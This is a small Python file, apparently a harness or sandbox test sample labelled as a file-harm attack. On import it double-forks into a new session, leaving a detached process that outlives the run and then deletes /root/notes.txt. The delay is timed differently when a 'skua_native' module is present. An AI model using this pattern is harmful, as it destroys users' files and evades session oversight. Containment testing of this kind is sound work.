# harm: files
"""Leaves a process in a session of its own, which waits for the run to end."""

import ctypes
import sys

libc = ctypes.CDLL(None)
if libc.fork() == 0:
    libc.setsid()
    if libc.fork() == 0:
        libc.usleep(300_000 if "skua_native" not in sys.modules else 15_000_000)
        libc.unlink(b"/root/notes.txt")
    libc._exit(0)
libc.usleep(600_000)


def attack(a: int = 0) -> int:
    return a
